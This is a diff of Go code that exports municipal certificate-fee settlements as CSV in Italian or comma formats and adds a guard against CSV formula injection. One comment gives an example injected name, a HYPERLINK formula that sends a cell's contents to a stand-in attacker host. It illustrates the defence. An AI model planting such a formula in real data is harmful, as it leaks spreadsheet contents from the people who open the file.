@@ -246,37 +246,126 @@ func ByDistrict(ss []Settlement) []DistrictTotal {
 	return out
 }
 
-// Euro writes cents as "16.00": a dot, so spreadsheets in any locale read
-// the CSV column as a number.
+// Euro writes cents as "16.00", with a decimal point and no thousands
+// separator (the settlement PDF's table).
 func Euro(cents int64) string { return fees.Amount(cents, '.', 0) }
 
-// WriteCSV writes the settlement as RFC 4180 CSV: one row per certificate,
-// then a totals row. Times are Rome's.
-func WriteCSV(w io.Writer, s Settlement) error {
+// CSVFormat is how a settlement's CSV separates fields and writes amounts.
+type CSVFormat int
+
+// The formats. Italian spreadsheets (Excel, LibreOffice Calc with Italian
+// settings) read ',' as the decimal separator and therefore ';' as the
+// field separator: a file written that way opens as columns of numbers
+// with a double click. The comma variant, with decimal points, is for
+// software and spreadsheets set up the English way.
+const (
+	ItalianCSV CSVFormat = iota // ';' between fields, "16,00"
+	CommaCSV                    // ',' between fields, "16.00"
+)
+
+func (f CSVFormat) comma() rune {
+	if f == CommaCSV {
+		return ','
+	}
+	return ';'
+}
+
+// Amount writes cents with the format's decimal separator and no
+// thousands separator, so a spreadsheet reads it as a number.
+func (f CSVFormat) Amount(cents int64) string {
+	if f == CommaCSV {
+		return fees.Amount(cents, '.', 0)
+	}
+	return fees.Amount(cents, ',', 0)
+}
+
+// plainNumber reports whether a spreadsheet reads cell as a number,
+// never a formula: an optional minus, digits, and at most one decimal
+// separator followed by digits.
+func plainNumber(cell string) bool {
+	digits, sep := 0, false
+	for i, c := range cell {
+		switch {
+		case c >= '0' && c <= '9':
+			digits++
+		case c == '-' && i == 0:
+		case (c == '.' || c == ',') && !sep && digits > 0:
+			sep = true
+		default:
+			return false
+		}
+	}
+	return digits > 0 && cell[len(cell)-1] >= '0' && cell[len(cell)-1] <= '9'
+}
+
+// Neutral defuses a cell a spreadsheet would run as a formula: one that
+// starts with '=', '+', '-' or '@', or with a tab, carriage return or
+// line feed (which some spreadsheets skip before looking), gets a leading
+// apostrophe, so it shows as the text it is (OWASP, "CSV Injection");
+// leading spaces do not hide the sign. Operators' names and addresses
+// come from their applications: a name such as
+// =HYPERLINK("https://evil.example/?"&A1) must not run on a city clerk's
+// computer. Plain numbers are left alone.
+func Neutral(cell string) string {
+	if cell == "" || plainNumber(cell) {
+		return cell
+	}
+	if t := strings.TrimLeft(cell, " "); t != "" && strings.ContainsRune("=+-@\t\r\n", rune(t[0])) {
+		return "'" + cell
+	}
+	return cell
+}
+
+// csvWriter writes rows with every cell neutralised.
+type csvWriter struct{ w *csv.Writer }
+
+func newCSV(w io.Writer, f CSVFormat) csvWriter {
 	cw := csv.NewWriter(w)
-	cw.Write([]string{"operatore", "mese", "certificato", "protocollo", "rilasciato", "tipi", "canale", "stato", "bollo_eur", "diritti_eur", "servizio_eur", "totale_eur"})
+	cw.Comma = f.comma()
+	return csvWriter{cw}
+}
+
+func (c csvWriter) row(cells ...string) {
+	for i := range cells {
+		cells[i] = Neutral(cells[i])
+	}
+	c.w.Write(cells)
+}
+
+func (c csvWriter) flush() error {
+	c.w.Flush()
+	return c.w.Error()
+}
+
+// WriteCSV writes the settlement as CSV (RFC 4180 with the format's
+// separator): one row per certificate, then a totals row. Times are
+// Rome's.
+func WriteCSV(w io.Writer, s Settlement, f CSVFormat) error {
+	cw := newCSV(w, f)
+	eur := f.Amount
+	cw.row("operatore", "mese", "certificato", "protocollo", "rilasciato", "tipi", "canale", "stato", "bollo_eur", "diritti_eur", "servizio_eur", "totale_eur")
 	for _, l := range s.Lines {
 		types := make([]string, len(l.Types))
 		for i, t := range l.Types {
 			types[i] = string(t)
 		}
-		cw.Write([]string{s.Operator.ID, s.Month.String(), l.ID, l.Protocol, l.Issued.In(protocol.Rome).Format(time.RFC3339),
+		cw.row(s.Operator.ID, s.Month.String(), l.ID, l.Protocol, l.Issued.In(protocol.Rome).Format(time.RFC3339),
 			strings.Join(types, "+"), string(l.Channel), string(l.Status),
-			Euro(l.BolloCents), Euro(l.DirittiCents), Euro(l.ServiceCents), Euro(l.CollectedCents)})
+			eur(l.BolloCents), eur(l.DirittiCents), eur(l.ServiceCents), eur(l.CollectedCents))
 	}
-	cw.Write([]string{s.Operator.ID, s.Month.String(), "TOTALE", fmt.Sprint(s.Certificates), "", "", "", fmt.Sprintf("%d revocati", s.Revoked),
-		Euro(s.BolloCents), Euro(s.DirittiCents), Euro(s.ServiceCents), Euro(s.CollectedCents)})
-	cw.Flush()
-	return cw.Error()
+	cw.row(s.Operator.ID, s.Month.String(), "TOTALE", fmt.Sprint(s.Certificates), "", "", "", fmt.Sprintf("%d revocati", s.Revoked),
+		eur(s.BolloCents), eur(s.DirittiCents), eur(s.ServiceCents), eur(s.CollectedCents))
+	return cw.flush()
 }
 
 // WriteSummaryCSV writes one row per operator and one per district.
-func WriteSummaryCSV(w io.Writer, m Month, ss []Settlement) error {
-	cw := csv.NewWriter(w)
-	cw.Write([]string{"mese", "livello", "operatore", "nome", "zona", "certificati", "revocati", "bollo_eur", "diritti_eur", "servizio_eur", "incassato_eur", "dovuto_al_comune_eur"})
+func WriteSummaryCSV(w io.Writer, m Month, ss []Settlement, f CSVFormat) error {
+	cw := newCSV(w, f)
+	eur := f.Amount
+	cw.row("mese", "livello", "operatore", "nome", "zona", "certificati", "revocati", "bollo_eur", "diritti_eur", "servizio_eur", "incassato_eur", "dovuto_al_comune_eur")
 	row := func(level, id, name, district string, a Amounts) {
-		cw.Write([]string{m.String(), level, id, name, district, fmt.Sprint(a.Certificates), fmt.Sprint(a.Revoked),
-			Euro(a.BolloCents), Euro(a.DirittiCents), Euro(a.ServiceCents), Euro(a.CollectedCents), Euro(a.DueCents())})
+		cw.row(m.String(), level, id, name, district, fmt.Sprint(a.Certificates), fmt.Sprint(a.Revoked),
+			eur(a.BolloCents), eur(a.DirittiCents), eur(a.ServiceCents), eur(a.CollectedCents), eur(a.DueCents()))
 	}
 	for _, s := range ss {
 		row("operatore", s.Operator.ID, s.Operator.Name, s.Operator.District, s.Amounts)
@@ -285,6 +374,5 @@ func WriteSummaryCSV(w io.Writer, m Month, ss []Settlement) error {
 		row("zona", "", "", d.District, d.Amounts)
 	}
 	row("totale", "", "", "", Total(ss))
-	cw.Flush()
-	return cw.Error()
+	return cw.flush()
 }
